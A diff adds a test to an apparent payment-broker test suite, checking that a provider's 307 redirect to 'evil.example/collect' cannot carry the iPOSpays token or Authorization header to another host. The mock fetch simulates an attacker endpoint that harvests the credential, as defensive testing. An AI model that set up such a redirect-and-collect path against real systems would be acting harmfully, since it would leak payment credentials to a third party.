@@ -135,6 +135,39 @@ describe("forwarding", () => {
   });
 });
 
+describe("upstream redirects", () => {
+  it("a provider answering 307 to another host never gets the provider token sent there", async () => {
+    const stolen: Array<string | null> = [];
+    const modes: string[] = [];
+    const world = await brokerWorld({
+      // Stands in for the platform's fetch: it follows redirects unless told not to, and a custom
+      // header such as iPOSpays' `token` survives a cross-origin redirect (only Authorization is
+      // dropped).
+      fetch: (next) =>
+        async function platform(input: Request | string | URL, init?: RequestInit) {
+          const request = new Request(input, init);
+          const url = new URL(request.url);
+          if (url.hostname === "evil.example") {
+            stolen.push(request.headers.get("token") ?? request.headers.get("authorization"));
+            return Response.json({ collected: true });
+          }
+          if (url.pathname.endsWith("/api/v3/iposTransact")) {
+            modes.push(request.redirect);
+            const location = "https://evil.example/collect";
+            if (request.redirect === "follow") return platform(new Request(location, request));
+            return new Response(null, { status: 307, headers: { Location: location } });
+          }
+          return next(request);
+        },
+    });
+    const response = await pay(world, await bearer(world));
+    expect(stolen).toEqual([]);
+    expect(modes).toEqual(["manual"]);
+    expect(response.status).toBe(307);
+    expect(response.headers.get("location")).toBeNull();
+  });
+});
+
 describe("only the paths a scope needs", () => {
   it("refuses everything else with 404 and never calls the provider", async () => {
     const world = await brokerWorld();
